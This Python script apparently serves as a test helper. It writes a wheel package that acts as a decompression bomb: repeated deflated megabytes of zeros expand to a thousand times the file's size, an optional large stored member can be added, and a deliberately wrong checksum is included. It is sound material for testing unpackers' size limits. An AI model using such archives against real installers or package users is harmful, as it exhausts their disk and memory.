"""Makes a wheel that unpacks to a thousand times its size: make_bomb.py DIRECTORY NAME VERSION MEGABYTES STORED; prints its
file name. STORED megabytes are in it as they are, which makes the wheel itself so large.

The packed bytes are those of one megabyte of zeros, again and again: made at once, whatever the size. The checksum is
wrong, so that whoever does not count while unpacking learns of it at the end.
"""
import pathlib
import struct
import sys
import zlib

directory, name, version, megabytes, stored = sys.argv[1:]
info = f"{name}-{version}.dist-info"


def deflated(data, flush):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(flush)


def member(path, method, data, size, crc):
    """(local header and data, what the directory says of it)"""
    facts = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, crc, len(data), size, len(path), 0)
    return b"PK\3\4" + facts + path.encode() + data, facts


texts = {f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
         f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
         f"{info}/RECORD": f"{name}/data.bin,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"}
packed = deflated(bytes(1 << 20), zlib.Z_FULL_FLUSH) * int(megabytes) + deflated(b"", zlib.Z_FINISH)
members = {path: member(path, 0, text.encode(), len(text), zlib.crc32(text.encode())) for path, text in texts.items()}
members[f"{name}/data.bin"] = member(f"{name}/data.bin", 8, packed, int(megabytes) << 20, 0x12345678)
if int(stored) > 0:
    plain = bytes(int(stored) << 20)
    members[f"{name}/plain.bin"] = member(f"{name}/plain.bin", 0, plain, len(plain), zlib.crc32(plain))
body = listed = b""
for path, (local, facts) in members.items():
    listed += b"PK\1\2" + struct.pack("<H", 20) + facts + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + path.encode()
    body += local
end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(listed), len(body), 0)
file = pathlib.Path(directory) / f"{name}-{version}-py3-none-any.whl"
file.write_bytes(body + listed + end)
print(file.name)
